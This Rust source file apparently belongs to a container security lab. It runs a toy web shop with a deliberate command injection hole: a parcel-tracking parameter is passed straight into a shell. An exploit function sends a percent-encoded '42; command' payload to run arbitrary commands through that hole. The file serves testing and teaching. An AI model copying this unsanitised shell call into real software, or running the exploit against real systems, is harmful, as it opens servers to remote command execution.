//! A small web shop with one hole: it hands a parcel number to a shell. Takes requests; gives what the shell said. Ends some seconds
//! after its first customer, as containers do.

use std::net::{SocketAddr, TcpListener, TcpStream};
use std::process::Command;
use std::sync::mpsc;
use std::time::Duration;

use anyhow::Result;

use crate::http;

/// Serves until `seconds` after the first request that the hole was used for; 0 means for ever. The container's first process ends then,
/// and the kernel ends the rest of it.
pub(crate) fn serve(listen: SocketAddr, seconds: u64) -> Result<()> {
    let listener = TcpListener::bind(listen)?;
    println!("shop listens on {listen}");
    let (first, first_customer) = mpsc::sync_channel(1);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            serve_one(stream, &first);
        }
    });
    loop {
        first_customer.recv()?;
        if seconds > 0 {
            std::thread::sleep(Duration::from_secs(seconds));
            return Ok(());
        }
    }
}

fn serve_one(mut stream: TcpStream, first: &mpsc::SyncSender<()>) {
    let Ok(request) = http::read(&mut stream) else { return };
    if let Some(parcel) = request.path.strip_prefix("/track?parcel=") {
        let parcel = decode(parcel);
        std::thread::spawn(move || track(stream, &parcel));
        // Full: somebody was here before, and the end is already set.
        first.try_send(()).ok();
    } else if let Err(problem) = http::answer(&mut stream, b"shop\n") {
        eprintln!("shop: {problem}");
    }
}

/// The hole: whatever follows a `;` is a command.
fn track(mut stream: TcpStream, parcel: &str) {
    let said = Command::new("/bin/sh").arg("-c").arg(format!("echo parcel {parcel}")).output();
    let body = said.map_or_else(|problem| problem.to_string().into_bytes(), |output| output.stdout);
    if let Err(problem) = http::answer(&mut stream, &body) {
        eprintln!("shop: the customer left: {problem}");
    }
}

fn decode(text: &str) -> String {
    let mut bytes = Vec::with_capacity(text.len());
    let mut rest = text.as_bytes();
    while let Some((&first, after)) = rest.split_first() {
        let code = (first == b'%').then(|| after.get(..2)).flatten();
        let byte = code.and_then(|two| std::str::from_utf8(two).ok()).and_then(|two| u8::from_str_radix(two, 16).ok());
        if let Some(byte) = byte {
            bytes.push(byte);
            rest = after.get(2..).unwrap_or_default();
        } else {
            bytes.push(if first == b'+' { b' ' } else { first });
            rest = after;
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

/// What the attacker sends: a parcel number with a command behind it.
pub(crate) fn exploit(target: SocketAddr, command: &str) -> Result<()> {
    let parcel = hex::encode(format!("42; {command}"));
    let parcel: String = parcel.as_bytes().chunks(2).flat_map(|two| [b'%', two[0], two[1]]).map(char::from).collect();
    let answer = http::ask(target, "GET", &format!("/track?parcel={parcel}"), "", &[])?;
    print!("{}", String::from_utf8_lossy(&answer));
    Ok(())
}
